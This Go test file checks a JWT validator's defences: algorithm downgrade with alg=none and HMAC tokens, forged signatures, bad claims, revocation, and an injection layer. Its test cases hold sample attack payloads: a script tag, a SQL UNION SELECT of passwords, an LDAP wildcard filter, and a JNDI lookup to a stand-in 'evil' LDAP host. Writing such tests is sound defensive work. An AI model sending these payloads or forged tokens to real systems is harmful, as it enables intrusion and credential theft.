package auth

import (
	"context"
	"crypto/rand"
	"crypto/rsa"
	"encoding/base64"
	"testing"
	"time"

	"github.com/alicebob/miniredis/v2"
	"github.com/golang-jwt/jwt/v5"
	"github.com/google/uuid"
	"github.com/redis/go-redis/v9"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.uber.org/zap/zaptest"
)

const (
	testIssuer   = "https://idp.example.test/realms/eaf"
	testAudience = "eaf-core"
	testUserID   = "aaaaaaaa-bbbb-4ccc-8ddd-eeeeeeeeeeee"
	testTenantID = "11111111-1111-1111-1111-111111111111"
)

var testNow = time.Unix(1_700_000_000, 0).UTC()

type validatorFixture struct {
	key       *rsa.PrivateKey
	validator *TokenValidator
}

func newFixture(t *testing.T, opts ...Option) *validatorFixture {
	t.Helper()
	key, err := rsa.GenerateKey(rand.Reader, 2048)
	require.NoError(t, err)

	keys := func(_ *jwt.Token) (interface{}, error) { return &key.PublicKey, nil }
	opts = append([]Option{WithClock(func() time.Time { return testNow })}, opts...)
	v := NewTokenValidator(Config{
		Issuer:   testIssuer,
		Audience: testAudience,
	}, keys, zaptest.NewLogger(t), opts...)

	return &validatorFixture{key: key, validator: v}
}

// baseClaims returns a claim set that passes every layer.
func baseClaims() jwt.MapClaims {
	return jwt.MapClaims{
		"sub":       testUserID,
		"iss":       testIssuer,
		"aud":       testAudience,
		"exp":       testNow.Add(time.Hour).Unix(),
		"iat":       testNow.Unix(),
		"jti":       uuid.NewString(),
		"tenant_id": testTenantID,
		"roles":     []string{"admin"},
	}
}

func (f *validatorFixture) sign(t *testing.T, claims jwt.MapClaims) string {
	t.Helper()
	s, err := jwt.NewWithClaims(jwt.SigningMethodRS256, claims).SignedString(f.key)
	require.NoError(t, err)
	return s
}

func requireCode(t *testing.T, err error, code Code) {
	t.Helper()
	se, ok := AsSecurityError(err)
	require.True(t, ok, "expected SecurityError, got %v", err)
	assert.Equal(t, code, se.Code)
	assert.Equal(t, PublicDenialMessage, se.PublicMessage())
}

func TestValidateHappyPath(t *testing.T) {
	f := newFixture(t)
	claims := baseClaims()
	claims["sid"] = "session-1"

	p, err := f.validator.Validate(context.Background(), f.sign(t, claims))
	require.NoError(t, err)
	assert.Equal(t, testUserID, p.UserID)
	assert.Equal(t, testTenantID, p.TenantID)
	assert.Equal(t, []string{"ROLE_admin"}, p.Roles)
	assert.Equal(t, claims["jti"], p.JTI)
	assert.Equal(t, "session-1", p.SessionID)
	assert.True(t, p.HasRole("admin"))
	assert.False(t, p.HasRole("auditor"))
}

func TestValidateRealmAccessRoles(t *testing.T) {
	f := newFixture(t)
	claims := baseClaims()
	delete(claims, "roles")
	claims["realm_access"] = map[string]interface{}{"roles": []string{"operator", "vm:provision"}}

	p, err := f.validator.Validate(context.Background(), f.sign(t, claims))
	require.NoError(t, err)
	assert.Equal(t, []string{"ROLE_operator", "vm:provision"}, p.Roles)
}

func TestValidateFormatLayer(t *testing.T) {
	f := newFixture(t)

	tests := []struct {
		name  string
		token string
		code  Code
	}{
		{"empty", "", CodeEmptyToken},
		{"two segments", "abc.def", CodeInvalidStructure},
		{"four segments", "a.b.c.d", CodeInvalidStructure},
		{"illegal characters", "ab c.def.ghi", CodeInvalidFormat},
		{"padding characters", "abc=.def.ghi", CodeInvalidFormat},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			_, err := f.validator.Validate(context.Background(), tc.token)
			requireCode(t, err, tc.code)
		})
	}
}

func TestValidateSizeBoundary(t *testing.T) {
	f := newFixture(t)
	token := f.sign(t, baseClaims())

	// At the configured limit the token passes; one byte over is rejected.
	f.validator.cfg.MaxTokenBytes = len(token)
	_, err := f.validator.Validate(context.Background(), token)
	require.NoError(t, err)

	f.validator.cfg.MaxTokenBytes = len(token) - 1
	_, err = f.validator.Validate(context.Background(), token)
	requireCode(t, err, CodeTooLarge)
}

func TestValidateAlgorithmDowngrade(t *testing.T) {
	f := newFixture(t)

	// alg=none with otherwise valid claims must surface the downgrade, not a
	// generic signature failure.
	tok := jwt.NewWithClaims(jwt.SigningMethodNone, baseClaims())
	unsigned, err := tok.SignedString(jwt.UnsafeAllowNoneSignatureType)
	require.NoError(t, err)
	_, err = f.validator.Validate(context.Background(), unsigned)
	requireCode(t, err, CodeUnsupportedAlgorithm)

	// HMAC is rejected the same way.
	hmacToken, err := jwt.NewWithClaims(jwt.SigningMethodHS256, baseClaims()).
		SignedString([]byte("shared-secret"))
	require.NoError(t, err)
	_, err = f.validator.Validate(context.Background(), hmacToken)
	requireCode(t, err, CodeUnsupportedAlgorithm)

	// The same claims signed with RS256 are accepted.
	p, err := f.validator.Validate(context.Background(), f.sign(t, baseClaims()))
	require.NoError(t, err)
	assert.Equal(t, testTenantID, p.TenantID)
}

func TestValidateWrongKey(t *testing.T) {
	f := newFixture(t)
	otherKey, err := rsa.GenerateKey(rand.Reader, 2048)
	require.NoError(t, err)
	forged, err := jwt.NewWithClaims(jwt.SigningMethodRS256, baseClaims()).SignedString(otherKey)
	require.NoError(t, err)

	_, err = f.validator.Validate(context.Background(), forged)
	requireCode(t, err, CodeInvalidSignature)
}

func TestValidateClaimSchema(t *testing.T) {
	f := newFixture(t)

	tests := []struct {
		name   string
		mutate func(jwt.MapClaims)
		code   Code
	}{
		{"missing sub", func(c jwt.MapClaims) { delete(c, "sub") }, CodeMissingClaim},
		{"missing jti", func(c jwt.MapClaims) { delete(c, "jti") }, CodeMissingClaim},
		{"missing tenant_id", func(c jwt.MapClaims) { delete(c, "tenant_id") }, CodeMissingClaim},
		{"missing exp", func(c jwt.MapClaims) { delete(c, "exp") }, CodeMissingClaim},
		{"missing iat", func(c jwt.MapClaims) { delete(c, "iat") }, CodeMissingClaim},
		{"missing iss", func(c jwt.MapClaims) { delete(c, "iss") }, CodeMissingClaim},
		{"missing aud", func(c jwt.MapClaims) { delete(c, "aud") }, CodeMissingClaim},
		{"tenant_id not a uuid", func(c jwt.MapClaims) { c["tenant_id"] = "not-a-uuid" }, CodeInvalidClaimFormat},
		{"sub not a uuid", func(c jwt.MapClaims) { c["sub"] = "bob" }, CodeInvalidClaimFormat},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			claims := baseClaims()
			tc.mutate(claims)
			_, err := f.validator.Validate(context.Background(), f.sign(t, claims))
			requireCode(t, err, tc.code)
		})
	}
}

func TestValidateTemporalBoundaries(t *testing.T) {
	f := newFixture(t)
	skew := DefaultClockSkew

	t.Run("exp at now minus skew accepted", func(t *testing.T) {
		claims := baseClaims()
		claims["exp"] = testNow.Add(-skew).Unix()
		_, err := f.validator.Validate(context.Background(), f.sign(t, claims))
		require.NoError(t, err)
	})

	t.Run("exp one second past skew rejected", func(t *testing.T) {
		claims := baseClaims()
		claims["exp"] = testNow.Add(-skew - time.Second).Unix()
		_, err := f.validator.Validate(context.Background(), f.sign(t, claims))
		requireCode(t, err, CodeTokenExpired)
	})

	t.Run("iat beyond skew rejected", func(t *testing.T) {
		claims := baseClaims()
		claims["iat"] = testNow.Add(skew + time.Second).Unix()
		_, err := f.validator.Validate(context.Background(), f.sign(t, claims))
		requireCode(t, err, CodeFutureToken)
	})

	t.Run("iat within skew accepted", func(t *testing.T) {
		claims := baseClaims()
		claims["iat"] = testNow.Add(skew).Unix()
		_, err := f.validator.Validate(context.Background(), f.sign(t, claims))
		require.NoError(t, err)
	})

	t.Run("token older than max age rejected", func(t *testing.T) {
		claims := baseClaims()
		claims["iat"] = testNow.Add(-DefaultMaxAge - time.Second).Unix()
		_, err := f.validator.Validate(context.Background(), f.sign(t, claims))
		requireCode(t, err, CodeTokenTooOld)
	})
}

func TestValidateIssuerAudience(t *testing.T) {
	f := newFixture(t)

	claims := baseClaims()
	claims["iss"] = "https://rogue.example.test"
	_, err := f.validator.Validate(context.Background(), f.sign(t, claims))
	requireCode(t, err, CodeInvalidIssuer)

	claims = baseClaims()
	claims["aud"] = "other-service"
	_, err = f.validator.Validate(context.Background(), f.sign(t, claims))
	requireCode(t, err, CodeInvalidAudience)

	// Audience may be a list; exact match against any element passes.
	claims = baseClaims()
	claims["aud"] = []string{"other-service", testAudience}
	_, err = f.validator.Validate(context.Background(), f.sign(t, claims))
	require.NoError(t, err)
}

func TestValidateRevocationRoundTrip(t *testing.T) {
	mr := miniredis.RunT(t)
	rdb := redis.NewClient(&redis.Options{Addr: mr.Addr()})
	rs := NewRedisRevocationSet(rdb, zaptest.NewLogger(t))

	f := newFixture(t, WithRevocations(rs))
	claims := baseClaims()
	jti := claims["jti"].(string)
	token := f.sign(t, claims)
	ctx := context.Background()

	_, err := f.validator.Validate(ctx, token)
	require.NoError(t, err)

	require.NoError(t, rs.Revoke(ctx, jti, time.Hour))
	_, err = f.validator.Validate(ctx, token)
	requireCode(t, err, CodeTokenRevoked)

	require.NoError(t, rs.Reinstate(ctx, jti))
	_, err = f.validator.Validate(ctx, token)
	require.NoError(t, err)
}

func TestValidateRevocationFailsClosed(t *testing.T) {
	mr := miniredis.RunT(t)
	rdb := redis.NewClient(&redis.Options{Addr: mr.Addr()})
	rs := NewRedisRevocationSet(rdb, zaptest.NewLogger(t))
	f := newFixture(t, WithRevocations(rs))
	token := f.sign(t, baseClaims())

	mr.Close()
	_, err := f.validator.Validate(context.Background(), token)
	requireCode(t, err, CodeRevocationCheckFailed)
}

func TestValidateRoleLayer(t *testing.T) {
	f := newFixture(t)

	claims := baseClaims()
	claims["roles"] = []string{}
	_, err := f.validator.Validate(context.Background(), f.sign(t, claims))
	requireCode(t, err, CodeNoRolesAssigned)

	claims = baseClaims()
	claims["roles"] = []string{"admin;drop"}
	_, err = f.validator.Validate(context.Background(), f.sign(t, claims))
	requireCode(t, err, CodeRoleInvalidChars)
}

func TestValidateUserStatusLayer(t *testing.T) {
	dir := NewStaticDirectory(map[string]UserStatus{
		testUserID: {Active: true},
	})
	f := newFixture(t, WithDirectory(dir))

	_, err := f.validator.Validate(context.Background(), f.sign(t, baseClaims()))
	require.NoError(t, err)

	tests := []struct {
		name   string
		status UserStatus
		code   Code
	}{
		{"inactive", UserStatus{Active: false}, CodeUserInactive},
		{"locked", UserStatus{Active: true, Locked: true}, CodeUserLocked},
		{"expired", UserStatus{Active: true, ExpiresAt: testNow.Add(-time.Hour)}, CodeUserExpired},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			f := newFixture(t, WithDirectory(NewStaticDirectory(map[string]UserStatus{
				testUserID: tc.status,
			})))
			_, err := f.validator.Validate(context.Background(), f.sign(t, baseClaims()))
			requireCode(t, err, tc.code)
		})
	}
}

func TestValidateInjectionLayer(t *testing.T) {
	f := newFixture(t)

	tests := []struct {
		name    string
		payload string
	}{
		{"script tag", "<script>alert(1)</script>"},
		{"sql", "x' UNION SELECT password FROM users"},
		{"ldap filter", "(|(uid=*)(cn=admin))"},
		{"jndi", "${jndi:ldap://evil/a}"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			claims := baseClaims()
			claims["note"] = tc.payload
			_, err := f.validator.Validate(context.Background(), f.sign(t, claims))
			requireCode(t, err, CodeInjectionDetected)
		})
	}
}

// TestTokenSegmentsDecode pins the format contract: all three segments of a
// produced token are base64url without padding.
func TestTokenSegmentsDecode(t *testing.T) {
	f := newFixture(t)
	token := f.sign(t, baseClaims())
	for i, seg := range splitSegments(token) {
		_, err := base64.RawURLEncoding.DecodeString(seg)
		assert.NoError(t, err, "segment %d", i)
	}
}

func splitSegments(token string) []string {
	segs := make([]string, 0, 3)
	start := 0
	for i := 0; i < len(token); i++ {
		if token[i] == '.' {
			segs = append(segs, token[start:i])
			start = i + 1
		}
	}
	return append(segs, token[start:])
}
